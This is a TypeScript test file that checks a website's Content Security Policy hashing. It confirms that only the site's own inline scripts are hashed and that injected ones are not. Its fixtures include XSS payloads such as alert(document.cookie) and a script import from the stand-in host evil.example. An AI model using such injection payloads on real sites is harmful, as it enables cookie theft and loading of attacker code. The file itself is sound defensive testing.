import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inlineScriptHashes } from '#server/script-hashes.ts';
import { contentSecurityPolicy, htmlPolicy } from '#server/security-headers.ts';
import { topLinerGateScript } from '#src/features/header/top-liner/TopLinerGate.ts';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

const head = `<head><script>${topLinerGateScript}</script><script type="module" src="/assets/x.js"></script></head>`;
const flight = (data: string) => `(self.__FLIGHT_DATA||=[]).push(${JSON.stringify(data)})`;
const bootstrap = 'globalThis.__WAKU_HYDRATE__ = true;import("/assets/index-x.js")';
/** A page as the site writes it: head script, content, Waku's bootstrap, RSC payload, React's streaming calls. */
const page = (content: string) =>
  `${head}<body><main>${content}</main><script id="_R_">${bootstrap}</script><script>${flight('1:"Café – München"\n')}</script><script>$RC("B:0","S:0")</script></body>`;

describe('script policy', () => {
  it('hashes the scripts the site emits, once each, never scripts loaded by src', () => {
    expect(inlineScriptHashes(page('<p>hello</p>'))).toEqual([
      sha(topLinerGateScript),
      sha(bootstrap),
      sha(flight('1:"Café – München"\n')),
      sha('$RC("B:0","S:0")'),
    ]);
  });

  it('gives no hash to a script injected into the page (issue 30 item 8)', () => {
    const mine = inlineScriptHashes(page(''));
    const injected = [
      '<script>alert(document.cookie)</script>',
      '<script type="text/javascript">alert(1)</script>',
      '<script type="module">import("https://evil.example/x.js")</script>',
      `<script>${flight('x')};alert(1)</script>`,
      '<script>(self.__FLIGHT_DATA||=[]).push(alert(1))</script>',
      '<script>$RC(alert(1))</script>',
      '<script>$RC("B:0","S:0");alert(1)</script>',
    ];
    for (const script of injected) expect(inlineScriptHashes(page(script)), script).toEqual(mine);
  });

  it('hashes no bootstrap when an injected one makes two', () => {
    const hashes = inlineScriptHashes(page('<script id="_R_">alert(1)</script>'));
    expect(hashes).not.toContain(sha('alert(1)'));
    expect(hashes).not.toContain(sha(bootstrap));
    expect(hashes).toContain(sha(topLinerGateScript));
  });

  it('hashes the UTF-8 bytes, only tags written as React writes them, and never data blocks', () => {
    const html = Buffer.from(
      `<script type="application/ld+json">{"name":"Café"}</script><scripts>x()</scripts><SCRIPT>${topLinerGateScript}</SCRIPT><script\n>${topLinerGateScript}</script><script></script><script>unclosed()`,
    );
    expect(inlineScriptHashes(html)).toEqual([sha(topLinerGateScript)]);
  });

  it('allows no inline script without its hash, and never unsafe-inline for scripts', () => {
    const policy = htmlPolicy(`<script>${topLinerGateScript}</script><script>self.__x=1</script>`);
    const scriptSrc = policy.split('; ').find((d) => d.startsWith('script-src'));
    expect(scriptSrc).toBe(`script-src 'self' ${sha(topLinerGateScript)}`);
    expect(contentSecurityPolicy()).toContain("script-src 'self';");
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).toContain("object-src 'none'");
  });

  it('keeps the policy of a body it has seen', () => {
    const body = new TextEncoder().encode(`<script>${topLinerGateScript}</script>`);
    expect(htmlPolicy(body)).toBe(htmlPolicy(body));
    expect(htmlPolicy(body)).toContain(sha(topLinerGateScript));
  });
});
